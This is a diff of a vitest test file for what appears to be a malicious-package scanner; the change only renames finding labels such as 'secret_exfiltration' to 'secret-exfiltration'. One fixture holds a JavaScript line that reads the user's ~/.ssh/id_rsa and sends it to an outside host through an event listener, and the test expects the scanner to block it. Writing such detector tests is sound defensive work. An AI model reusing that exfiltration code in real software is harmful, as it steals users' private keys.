@@ -2,7 +2,7 @@ import { expect, test } from "vitest";
 import { found } from "../../test-support/package-of";
 
 const control = async (path: string, code: string) =>
-  (await found(path, code)).filter((one) => /remote_control/.test(one)).map((one) => one.replace(/:.*/, ""));
+  (await found(path, code)).filter((one) => /remote-command-execution/.test(one)).map((one) => one.replace(/:.*/, ""));
 
 test.each([
   [
@@ -42,7 +42,7 @@ test.each([
     "warn",
   ],
 ])("finds that a program runs what comes in by %s", async (_, path, code, severity) => {
-  expect(await control(path, code)).toEqual([`${severity} remote_control`]);
+  expect(await control(path, code)).toEqual([`${severity} remote-command-execution`]);
 });
 
 test.each([
@@ -68,7 +68,7 @@ test.each([
 test("gives the listeners of a program's own events what is fired", async () => {
   const code =
     'const { EventEmitter } = require("events");\nconst bus = new EventEmitter();\nbus.on("key", (key) => fetch("https://in.statsbox.net/" + key));\nbus.emit("key", require("fs").readFileSync(process.env.HOME + "/.ssh/id_rsa", "utf8"));\n';
-  expect(await found("a.js", code)).toContainEqual(expect.stringMatching(/^block secret_exfiltration/));
+  expect(await found("a.js", code)).toContainEqual(expect.stringMatching(/^block secret-exfiltration/));
 });
 
 test.each([
@@ -93,5 +93,5 @@ test.each([
     "b.py",
   ],
 ])("finds keys that leave by %s", async (_, code, path) => {
-  expect(await found(path, code)).toContainEqual(expect.stringMatching(/^block secret_exfiltration/));
+  expect(await found(path, code)).toContainEqual(expect.stringMatching(/^block secret-exfiltration/));
 });
